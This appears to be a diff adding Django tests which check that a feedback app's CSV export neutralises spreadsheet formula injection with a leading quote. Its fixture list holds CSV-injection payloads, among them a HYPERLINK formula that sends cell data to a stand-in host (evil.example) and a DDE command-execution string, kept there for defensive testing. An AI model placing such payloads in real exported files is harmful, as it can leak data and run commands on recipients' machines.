@@ -245,3 +245,46 @@ def test_a_garbage_date_is_named_on_the_page_and_the_good_filters_still_apply(
     assert total == re.search(r'data-testid="total" data-count="(\d+)"', wanted).group(1)
     assert int(total) < alice.workspace.feedback.count(), "the channel filter still applies"
     assert "적용하지 않은 필터" in page and "시작일" in page and "garbage" in page
+
+
+FORMULAS = [
+    "=1+1 배송",
+    "+1+1 refund",
+    "-1+1 late",
+    "@SUM(A1:A9)",
+    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "\t=1+1 tab first",
+    "\r=1+1 return first",
+]
+
+
+def test_csv_export_escapes_cells_that_a_spreadsheet_would_run(alice: Member) -> None:
+    for n, payload in enumerate(FORMULAS):
+        add(alice, text=payload, touchpoint=payload[:60], source="app", external_id=f"f{n}")
+    add(alice, text="fine", customer={"name": "=2+3", "email": "e@x.example"})
+    response = alice.client.get(reverse("feedback:export_csv"))
+    body = b"".join(response.streaming_content).decode("utf-8")
+    rows = list(csv.DictReader(io.StringIO(body.lstrip("\ufeff"))))
+    stored = {f.pk: f for f in Feedback.objects.all()}
+    formulas = [r for r in rows if r["text"] != "fine"]
+    assert len(formulas) == 8
+    for row in formulas:
+        record = stored[int(row["id"])]
+        assert row["text"] == "'" + record.text, "escaped the OWASP way: a leading quote"
+        assert row["touchpoint"] == "'" + record.touchpoint
+    (fine,) = [r for r in rows if r["text"] == "fine"]
+    assert fine["customer_name"] == "'=2+3"
+
+
+def test_csv_export_keeps_negative_numbers_in_numeric_columns(alice: Member) -> None:
+    from zoneinfo import ZoneInfo
+
+    from soriloop.feedback.export import csv_lines
+
+    record = add(alice, text="-5 stars, awful")
+    record.score, record.score_kind = -1.5, "nps"
+    line = list(csv_lines([record], ZoneInfo("Asia/Seoul"), reveal=True))[1]
+    cells = next(csv.reader([line]))
+    assert cells[7] == "-1.5", "a number stays a number"
+    assert cells[10] == "'-5 stars, awful"
